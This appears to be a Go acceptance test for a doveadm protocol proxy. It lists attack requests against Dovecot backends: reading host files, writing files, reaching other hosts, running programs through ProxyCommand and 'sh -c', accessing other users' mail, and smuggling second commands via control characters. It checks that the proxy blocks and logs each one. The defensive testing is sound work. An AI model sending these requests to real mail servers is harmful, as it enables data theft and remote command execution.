package acceptance

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/doveadm-proxy/doveadm-proxy/doveadm"
	"github.com/doveadm-proxy/doveadm-proxy/internal/dovecot"
	"github.com/doveadm-proxy/doveadm-proxy/internal/dovecot/dovecottest"
)

// attack is something that a client must not be able to make a backend do.
type attack struct {
	name string
	// line is the request, with these words replaced: DIR is a directory that
	// the backend may write to, SECRET a file of its host, LIST a file that names
	// another user, MAILS that user's mails, PORT a port of another service.
	line string
	// direct names the versions of Dovecot that do it when it is sent to them:
	// proof that the test would see it.
	direct []dovecot.Version
	logged string // in the proxy's log, besides the address of the client
}

var both = dovecot.Versions()

// denied is how most are logged.
const denied = "outcome=denied"

// attacks that the rights of a client keep from a backend. The client is one
// without rights of its own, but for that to the mails of attacker.
func attacks() []attack {
	v23, v24 := []dovecot.Version{dovecot.V23}, []dovecot.Version{dovecot.V24}
	var all []attack
	add := func(name, line string, direct []dovecot.Version) {
		all = append(all, attack{name, line, direct, denied})
	}

	// Reading files.
	for _, args := range []string{
		"-F\tLIST\thdr.subject\tall", "-FLIST\thdr.subject\tall", "--user-file=LIST\thdr.subject\tall", "--user-file\tLIST\thdr.subject\tall",
		"--user-f\tLIST\thdr.subject\tall", "hdr.subject\tall\t-F\tLIST", "hdr.subject\t--user-fi=LIST\tall",
		"-AF\tLIST\thdr.subject\tall", "-AFLIST\thdr.subject\tall", "-F\tLIST\t--\thdr.subject\tall",
	} {
		add("-F", "\tattacker\tfetch\t"+args, both)
	}
	add("-F with an unknown command", "\tattacker\tno-such\t-F\tLIST", nil)
	add("-F with an unknown option", "\tattacker\tfetch\t-Z\t-F\tLIST\thdr.subject\tall", nil)
	add("import of another's mails", "\tattacker\timport\tMAILS\tStolen\tall", v24)
	add("import as another user", "\tattacker\timport\t-U\tvictim\tMAILS\tStolen\tall", v24)
	add("import as another user, grouped", "\tattacker\timport\t-sUvictim\tMAILS\tStolen\tall", v24)
	add("import as another user, behind", "\tattacker\timport\tMAILS\tStolen\tall\t--source-u=victim", v24)
	add("file to save", "\tattacker\tsave\tSECRET\nx\n.", both)
	add("file to save, named", "\tattacker\tsave\t--file=SECRET\nx\n.", nil)
	add("file as script", "\tattacker\tsieve put\tname\tSECRET\nx\n.", nil)
	add("fs get", "\tattacker\tfs get\tposix\tprefix=\tSECRET", v23)
	add("fs get in three fields", "\tattacker\tfs\tget\tposix\tprefix=\tSECRET", v23)
	add("mail fs get", "\tattacker\tmail fs get\tplain\tSECRET", v24)
	add("mail fs put", "\tattacker\tmail fs put\tplain\tSECRET\tDIR/copied", v24)
	add("dict", "\tattacker\tdict get\tfile:SECRET\tpriv/x", nil)
	add("dump", "\tattacker\tdump\tindex\tSECRET", nil)
	add("log find", "\tattacker\tlog find\tDIR", nil)

	// Writing files.
	add("fs put", "\tattacker\tfs put\tposix\tprefix=\tSECRET\tDIR/put", v23)
	add("fs copy", "\tattacker\tfs copy\tposix\tprefix=\tSECRET\tDIR/copied", v23)
	add("backup to a directory", "\tattacker\tbackup\tmaildir:DIR/backup", both)
	add("sync to a directory", "\tattacker\tsync\t-1\tmaildir:DIR/sync", both)
	add("rawlog", "\tattacker\tbackup\t-r\tDIR/raw\tmaildir:~/elsewhere", nil)
	add("rawlog of a tunnel", "\tattacker\tdsync-server\t-r\tDIR/raw", nil)
	add("rawlog of a tunnel, grouped", "\tattacker\tdsync-server\t-uattacker\t-T9\t-rDIR/raw", nil)
	// Here it is Dovecot that says no; the proxy logs who asked.
	for _, name := range []string{"DIR/created", "../../../..DIR/created", "~/../../../../..DIR/created", "~victim/created"} {
		all = append(all, attack{"mailbox with a path", "\tattacker\tmailbox create\t" + name, nil, `command="mailbox create"`})
	}

	// Reaching other hosts, running programs.
	add("sync to another host", "\tattacker\tsync\ttcp:127.0.0.1:PORT", both)
	add("backup from another host", "\tattacker\tbackup\t-R\ttcp:127.0.0.1:PORT", both)
	add("sync over TLS", "\tattacker\tsync\ttcps:127.0.0.1:PORT", nil)
	add("import from another host", "\tattacker\timport\timapc:DIR/imapc\tStolen\tall", nil)
	add("import with settings", "\tattacker\timport\t-p\timapc_host=127.0.0.1\tMAILS\tStolen\tall", nil)
	add("program", "\tattacker\tbackup\tsh\t-c\ttouch DIR/run", both)
	add("program in one word", "\tattacker\tbackup\t/bin/touch DIR/run", nil)
	add("program over ssh", "\tattacker\tsync\tremote:-oProxyCommand=touch${IFS}DIR/run", nil)
	add("destination by its name", "\tattacker\tsync\t--destination=tcp:127.0.0.1:PORT", both)
	add("exec", "\tattacker\texec\tsh", nil)

	// Another user, while the user name field names one's own.
	add("copy from another user", "\tattacker\tcopy\tINBOX\tuser\tvictim\tall", both)
	add("copy from another user, behind --", "\tattacker\tcopy\t--\tINBOX\tuser\tvictim\tall", both)
	add("copy from another user, in capitals", "\tattacker\tcopy\tINBOX\tUSER\tvictim\tall", v23)
	add("copy from another user, named", "\tattacker\tcopy\tINBOX\t--source-user=victim\tall", v24)
	add("copy from another user, abbreviated", "\tattacker\tcopy\tINBOX\t--source-u\tvictim\tall", v24)
	add("copy with words by their names", "\tattacker\tcopy\t--destination-mailbox=INBOX\tuser\tvictim\tall", both)
	add("move from another user", "\tattacker\tmove\tINBOX\tuser\tvictim\tall", nil)
	add("mask as user", "\t*\tfetch\thdr.subject\tall", nil)
	add("another mask", "\tvicti?\tfetch\thdr.subject\tall", nil)
	add("another user", "\tvictim\tfetch\thdr.subject\tall", both)
	add("another user in capitals", "\tVICTIM\tfetch\thdr.subject\tall", both)
	add("no user", "\t\tuser\tvictim", nil)
	add("all users of the server", "\tattacker\twho", nil)
	add("userdb", "\tattacker\tuser\t*", both)
	return all
}

// sameAsOwn are -u and its kind in the arguments: they change nothing. What the
// client gets is its own.
func sameAsOwn() []attack {
	var all []attack
	for _, args := range []string{
		"-u\tvictim\thdr.subject\tall", "-uvictim\thdr.subject\tall", "--user=victim\thdr.subject\tall", "--user\tvictim\thdr.subject\tall",
		"hdr.subject\tall\t-u\tvictim", "hdr.subject\t-uvictim\tall", "-S\t/run/x\t-u\tvictim\thdr.subject\tall", "-u\tattacker\t-u\tvictim\thdr.subject\tall",
		"hdr.subject\tall\t--user=victim",
	} {
		all = append(all, attack{"-u", "\tattacker\tfetch\t" + args, nil, "user=attacker command=fetch outcome=answered"})
	}
	all = append(
		all,
		attack{"-u behind --", "\tattacker\tfetch\thdr.subject\tall\t--\t-u\tvictim", nil, "user=attacker command=fetch outcome=unanswered"},
		attack{"-A", "\tattacker\tfetch\t-A\thdr.subject\tall", []dovecot.Version{dovecot.V24}, "user=attacker command=fetch"},
		attack{"-A, grouped", "\tattacker\tfetch\t-Auvictim\thdr.subject\tall", []dovecot.Version{dovecot.V24}, "user=attacker command=fetch"},
		attack{"-A, abbreviated", "\tattacker\tfetch\t--all\thdr.subject\tall", []dovecot.Version{dovecot.V24}, "user=attacker command=fetch"},
		attack{"-A behind", "\tattacker\tfetch\thdr.subject\tall\t-A", []dovecot.Version{dovecot.V24}, "user=attacker command=fetch"},
	)
	return all
}

// smuggled are requests with another one in each of their fields, and lines that
// are split at the limit. The client may do what the second one asks for: what
// counts is that nobody takes it for one.
func smuggled() []attack {
	var all []attack
	for _, second := range []string{
		"\x01n\x01tattacker\x01tmailbox create\x01tSMUGGLED\x01n",
		"\x01r\x01n\x01tattacker\x01tmailbox create\x01tSMUGGLED\x01r\x01n",
		"\x01\n\tattacker\tmailbox list\tSMUGGLED",
		"\r\x01tattacker\x01tmailbox create\x01tSMUGGLED\r",
		"\x011n\x011tattacker\x011tmailbox create\x011tSMUGGLED\x011n",
		"\x01\x01n\x01\x01tattacker\x01\x01tmailbox create\x01\x01tSMUGGLED\x01\x01n",
	} {
		for i, field := range []string{
			second + "\tattacker\tmailbox list",
			"x\tforward=" + second + "=x\tattacker\tmailbox list",
			"x\tforward=x=" + second + "\tattacker\tmailbox list",
			"x\tproxy-ttl=" + second + "\tattacker\tmailbox list",
			"\tattacker" + second + "\tmailbox list",
			"\t" + second + "\tmailbox list",
			"\tattacker\tmailbox list" + second,
			"\tattacker\tmailbox\tlist" + second,
			"\tattacker\tmailbox list\t" + second,
			"\tattacker\tmailbox list\t-s" + second,
			"\tattacker\tmailbox list\t--utf8=" + second,
			"\tattacker\tmailbox list\t-u" + second + "\tx",
			"\tattacker\tmailbox list\t-F" + second,
			"\tattacker\tsave\t-m" + second + "\nx\n.",
			"\tattacker\tsieve put\t" + second + "\nkeep;\n.",
		} {
			all = append(all, attack{name: fmt.Sprintf("second command in field %d", i), line: field})
		}
	}
	const second = "\tattacker\tmailbox create\tSMUGGLED\n"
	for _, before := range []int{-2, -1, 0, 1, 2} {
		line := "\tattacker\tmailbox list\t"
		line += strings.Repeat("x", doveadm.MaxLine+before-len(line)) + second
		all = append(all, attack{name: "line split at the limit", line: line})
	}
	all = append(all, attack{name: "NUL", line: "\tattacker\tmailbox list\tx\x00" + second})
	return all
}

// site is where the attacks are made.
type attackSite struct {
	server *dovecot.Server
	dir    string // DIR
	names  *strings.Replacer
	others atomic.Int64 // connections to the other service
}

const (
	victimSubject = "for the eyes of the victim"
	fileSecret    = "content of a file of the host"
)

func newAttackSite(t *testing.T, server *dovecot.Server) *attackSite {
	t.Helper()
	inside, err := server.Version.Inside(server.Dir)
	if err != nil {
		t.Fatal(err)
	}
	others, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { others.Close() })
	a := &attackSite{server: server, dir: filepath.Join(server.Dir, "open")}
	go func() {
		for {
			nc, err := others.Accept()
			if err != nil {
				return
			}
			a.others.Add(1)
			nc.Close()
		}
	}()
	_, port, _ := net.SplitHostPort(others.Addr().String())
	a.names = strings.NewReplacer("DIR", inside+"/open", "SECRET", inside+"/secret", "LIST", inside+"/list", "MAILS", "maildir:"+inside+"/mail/victim/Maildir", "PORT", port)
	for name, content := range map[string]string{"secret": "Subject: " + fileSecret + "\n\n" + fileSecret + "\n", "list": "victim\n"} {
		if err := os.WriteFile(filepath.Join(server.Dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	a.clean(t)
	if err := server.SaveMail("victim", "INBOX", dovecot.Message("victim", victimSubject)); err != nil {
		t.Fatal(err)
	}
	return a
}

// run sends the line and returns all that comes back.
func (a *attackSite) run(t *testing.T, client *doveadm.ClientConn, line string) string {
	t.Helper()
	client.NetConn().SetDeadline(time.Now().Add(30 * time.Second))
	sent := make(chan struct{})
	go func() {
		defer close(sent)
		io.WriteString(client.NetConn(), a.names.Replace(line)+"\n")
		client.NetConn().(interface{ CloseWrite() error }).CloseWrite()
	}()
	defer func() { <-sent }()
	var all bytes.Buffer
	for {
		chunk, err := client.ReadChunk()
		if err != nil {
			if errors.Is(err, os.ErrDeadlineExceeded) {
				t.Errorf("%.100q: no end of %.300q", line, &all)
			}
			return all.String()
		}
		all.Write(chunk.Data)
	}
}

// happened says what a command did that it must not do.
func (a *attackSite) happened(t *testing.T, reply string) string {
	t.Helper()
	for _, secret := range []string{victimSubject, fileSecret, `"userList"`} {
		if strings.Contains(reply, secret) {
			return "the client has read " + secret
		}
	}
	if files, err := os.ReadDir(a.dir); err != nil || len(files) > 0 {
		return fmt.Sprintf("files: %v, %v", files, err)
	}
	if a.others.Swap(0) > 0 {
		return "another host was reached"
	}
	return ""
}

// stored says what is in the attacker's mail that must not be there.
func (a *attackSite) stored(t *testing.T) string {
	t.Helper()
	r := dovecottest.Run(t, a.server.Client(), "fetch", "-u", "attacker", "text", "all")
	for _, secret := range []string{victimSubject, fileSecret} {
		if strings.Contains(r.Stdout, secret) {
			return "the client's mail has " + secret
		}
	}
	if r := dovecottest.Run(t, a.server.Client(), "mailbox list", "-u", "attacker", "*SMUGGLED*"); r.Stdout != "" {
		return "mailbox " + r.Stdout
	}
	return ""
}

// clean removes what an attack left.
func (a *attackSite) clean(t *testing.T) {
	t.Helper()
	if err := errors.Join(os.RemoveAll(a.dir), os.Mkdir(a.dir, 0o777), os.Chmod(a.dir, 0o777)); err != nil {
		t.Fatal(err)
	}
	dovecottest.Run(t, a.server.Client(), "expunge", "-u", "attacker", "mailbox", "*", "all")
	dovecottest.Run(t, a.server.Client(), "mailbox delete", "-u", "attacker", "SMUGGLED")
}

// TestAttacks: nothing that a client sends makes a backend open files, reach
// other hosts, run programs or touch other users without the right to it. Each
// attempt is in the log.
func TestAttacks(t *testing.T) {
	t.Parallel()
	for _, version := range dovecot.Versions() {
		t.Run(string(version), func(t *testing.T) {
			t.Parallel()
			config := ""
			if version == dovecot.V24 {
				config = "fs plain {\n  fs_name = plain\n  fs_driver = posix\n}\n"
			}
			server := dovecottest.Start(t, dovecot.Options{Version: version, Users: []string{"attacker", "victim"}, Config: config})
			a := newAttackSite(t, server)
			p := startProxy(t, racy, func(addr string) string {
				return fmt.Sprintf(`
listener "main" {
  address = %q
}
client "doveadm" {
  password = "{PLAIN}%s"
  allow {
    users = ["attacker"]
  }
}
shard "s1" {
  backend "mail1" {
    address = %q
    password = %q
  }
}
`, addr, clientPassword, server.Addr, server.Password)
			})
			a.throughProxy(t, p)
			a.directly(t)
		})
	}
}

func (a *attackSite) throughProxy(t *testing.T, p *proxyProcess) {
	for i, at := range slices.Concat(attacks(), sameAsOwn(), smuggled()) {
		minors := []doveadm.Minor{doveadm.MinorBase, doveadm.MinorExtraFields}
		if at.logged == "" { // one of the many that look alike
			minors = minors[i%2 : i%2+1]
		}
		for _, minor := range minors {
			client, err := dial(t.Context(), p.Addr, minor)
			if err != nil {
				t.Fatal(err)
			}
			peer := client.NetConn().LocalAddr().String()
			reply := a.run(t, client, at.line)
			client.Close()
			if what := a.happened(t, reply); what != "" {
				t.Errorf("1.%d %s, %.100q: %s; reply %.300q", minor, at.name, at.line, what, reply)
				a.clean(t)
			}
			waitLine(t, p, peer, at.logged)
		}
	}
	if what := a.stored(t); what != "" {
		t.Errorf("in the end: %s", what)
	}
}

// directly makes the same attacks without the proxy. Those that Dovecot falls
// for show that they would have been seen.
func (a *attackSite) directly(t *testing.T) {
	works := map[string]bool{}
	for _, at := range slices.Concat(attacks(), sameAsOwn()) {
		if !slices.Contains(at.direct, a.server.Version) {
			continue
		}
		client, err := doveadm.Dial(t.Context(), a.server.Addr, doveadm.ClientOptions{Password: a.server.Password, Minor: doveadm.MinorSTARTTLS})
		if err != nil {
			t.Fatal(err)
		}
		reply := a.run(t, client, at.line)
		client.Close()
		what := a.happened(t, reply)
		if what == "" {
			what = a.stored(t)
		}
		if what == "" {
			t.Errorf("directly %s, %.100q does nothing; reply %.300q", at.name, at.line, reply)
		}
		works[at.name] = true
		a.clean(t)
	}
	t.Logf("%d kinds of attacks work without the proxy", len(works))
}
